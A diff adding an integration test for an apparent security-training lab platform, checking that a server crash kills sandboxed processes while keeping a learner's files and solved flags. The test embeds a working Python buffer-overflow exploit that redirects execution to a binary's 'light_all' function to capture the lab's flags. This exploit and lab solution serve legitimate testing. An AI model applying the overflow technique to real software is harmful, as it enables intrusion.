@@ -1,0 +1,157 @@
+import { readdir, readFile } from 'node:fs/promises';
+import type { FlagVerdict, HomeFiles, Instance, LabFlagsSolved, SignedIn } from '@hexpedition/contract';
+import { afterAll, beforeAll, expect, inject, it } from 'vitest';
+import { connectTerminal } from '../apps/server/src/features/labs/workspaces/testing/terminal-client.ts';
+import { createDatabase, type OwnDatabase } from './support/content-database.ts';
+import { signUp } from './support/learner.ts';
+import { type RunningServer, startServer, temporaryFolder } from './support/server.ts';
+
+/** The server dies while a learner works in a workspace: what the screen said was kept is there afterwards. */
+
+let folder: { path: string; remove: () => Promise<void> };
+let database: OwnDatabase;
+let server: RunningServer;
+const start = (port?: number) =>
+  startServer({
+    dataDir: folder.path,
+    databaseUrl: database.url,
+    // The lab is for tier 2.
+    env: { POW_COST: '50', FREE_TIER: '2' },
+    ...(port ? { port } : {}),
+  });
+beforeAll(async () => {
+  [database, folder] = await Promise.all([createDatabase(inject('contentDatabase')), temporaryFolder()]);
+  server = await start();
+});
+afterAll(async () => {
+  await server?.stop();
+  await database?.drop();
+  await folder?.remove();
+});
+
+/** Speaks to the light as a learner would, and says the flags that it gives out. */
+const attack = `
+import socket, subprocess, re
+def say(letter):
+    s = socket.socket(socket.AF_UNIX)
+    s.connect('/lamp/lamp.sock')
+    heard = b''
+    try:
+        s.sendall(letter)
+        s.shutdown(socket.SHUT_WR)
+        while chunk := s.recv(4096): heard += chunk
+    except OSError: pass
+    return re.search(rb'flag\\{[^}]+\\}', heard)
+def first(letters):
+    for letter in letters:
+        if found := say(letter): return found.group().decode()
+place = subprocess.run("nm ~/lamp | grep ' light_all$'", shell=True, capture_output=True, text=True).stdout.split()[0]
+addresses = [(int(place, 16) + more).to_bytes(8, 'little') for more in (0, 1)]
+print('ONE', first(b'1\\n' + b'A' * n + b'\\x07\\n' for n in range(1, 200)))
+print('TWO', first(b'1\\n' + b'A' * n + a + b'\\n' for n in range(8, 200, 8) for a in addresses))
+`;
+
+const lab = '/api/lab/lamplighter';
+function caller({ token }: SignedIn) {
+  const headers = { authorization: `Bearer ${token.access}` };
+  const call = async <T>(method: string, path: string, body?: object): Promise<T> => {
+    const json = body ? { body: JSON.stringify(body) } : {};
+    const type: Record<string, string> = body ? { 'content-type': 'application/json' } : {};
+    const response = await fetch(server.url + path, { method, headers: { ...headers, ...type }, ...json });
+    return (await response.json()) as T;
+  };
+  return {
+    get: <T>(path: string) => call<T>('GET', path),
+    post: <T>(path: string, body?: object) => call<T>('POST', path, body),
+    upload: (path: string, body: string) =>
+      fetch(`${server.url}${lab}/file?path=${path}`, {
+        method: 'PUT',
+        headers: { ...headers, 'content-type': 'application/octet-stream' },
+        body,
+      }),
+    download: async (path: string) => (await fetch(`${server.url}${lab}/file?path=${path}`, { headers })).text(),
+  };
+}
+
+/** Process id → when it was started, of everything below a process. Ids are used again; both together are not. */
+async function below(pid: number): Promise<Map<number, string>> {
+  const all = new Map<number, { parent: number; since: string }>();
+  for (const name of (await readdir('/proc')).filter((entry) => /^\d+$/.test(entry))) {
+    const stat = await readFile(`/proc/${name}/stat`, 'utf8').catch(() => '');
+    // Behind the name, which may hold anything: state, parent, …, and the start as the 22nd of all
+    const fields = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
+    if (stat) all.set(Number(name), { parent: Number(fields[1]), since: fields[19] ?? '' });
+  }
+  const found = new Map<number, string>();
+  const queue = [pid];
+  for (let next = queue.pop(); next !== undefined; next = queue.pop()) {
+    for (const [child, { parent, since }] of all) {
+      if (parent !== next || found.has(child)) continue;
+      found.set(child, since);
+      queue.push(child);
+    }
+  }
+  return found;
+}
+
+const isThere = async ([pid, since]: [number, string]) => {
+  const stat = await readFile(`/proc/${pid}/stat`, 'utf8').catch(() => '');
+  return stat.slice(stat.lastIndexOf(')') + 2).split(' ')[19] === since;
+};
+
+it('a power cut leaves no process, and takes nothing that was kept', async ({ skip }) => {
+  const learner = caller(await signUp(server));
+  const page = await learner.get<{ unavailable: string | null }>(lab);
+  if (page.unavailable) skip(page.unavailable);
+  const started = await learner.post<{ instance: Instance }>(`${lab}/start`);
+  expect(started.instance.status).toBe('running');
+
+  const { ticket } = await learner.post<{ ticket: string }>(`${lab}/terminal`);
+  const terminal = await connectTerminal(server.port, { origin: server.url });
+  terminal.say({ ticket, terminal: 1, columns: 80, rows: 24, from: null });
+  await terminal.heard('attached');
+  expect((await learner.upload('attack.py', attack)).status).toBe(200);
+  terminal.type('python3 attack.py\n');
+  await expect.poll(terminal.text).toMatch(/ONE flag\{\w+\}\s+TWO flag\{\w+\}/);
+  const [one = '', two = ''] = terminal.text().match(/flag\{\w+\}/g) ?? [];
+  const submit = (flag: string) => learner.post<FlagVerdict>('/api/lab/flags/lamplighter', { flag });
+  expect(await submit(one)).toMatchObject({ result: 'right' });
+
+  const before = terminal.said.length;
+  terminal.type('echo "the light answers to rank 7" > notes.txt\n');
+  await expect.poll(() => terminal.said.slice(before).filter(({ type }) => type === 'saved').length).toBeGreaterThan(0);
+  // A save that was under way may have begun before the words were there.
+  await expect.poll(async () => (await learner.download('notes.txt')).trim()).toBe('the light answers to rank 7');
+  const savedAt = async () =>
+    (await learner.get<{ instance: Instance }>(`${lab}/instance`)).instance.home?.saved_at ?? '';
+  const earlier = await savedAt();
+  terminal.type('true\n');
+  await expect.poll(savedAt).not.toBe(earlier);
+
+  const processes = [...(await below(server.pid))];
+  const commands = await Promise.all(
+    processes.map(([pid]) => readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '')),
+  );
+  expect(commands.filter((command) => command.includes('bwrap')).length).toBeGreaterThanOrEqual(2);
+  await server.kill();
+  expect(await terminal.closed).toMatchObject({ code: 1006 });
+  await expect
+    .poll(async () => (await Promise.all(processes.map(isThere))).filter(Boolean).length, { timeout: 30_000 })
+    .toBe(0);
+
+  server = await start(server.port);
+  const after = await learner.get<{ instance: Instance }>(`${lab}/instance`);
+  expect(after.instance).toMatchObject({ status: 'stopped', error: 'The server was restarted.' });
+  expect(after.instance.home?.bytes).toBeGreaterThan(0);
+  const { flags } = await learner.get<LabFlagsSolved>('/api/lab/flags_solved');
+  expect(flags.map(({ id }) => id)).toEqual(['neighbour']);
+  // The other was found before, and is good for a day after its instance.
+  expect(await submit(two)).toMatchObject({ result: 'right', flag: { id: 'all-lamps' } });
+
+  expect((await learner.post<{ instance: Instance }>(`${lab}/start`)).instance.status).toBe('running');
+  expect(await learner.download('notes.txt')).toBe('the light answers to rank 7\n');
+  expect(await learner.download('attack.py')).toBe(attack);
+  const { files } = await learner.get<HomeFiles>(`${lab}/files`);
+  expect(files.map(({ path }) => path)).toContain('notes.txt');
+  await learner.post(`${lab}/stop`);
+});
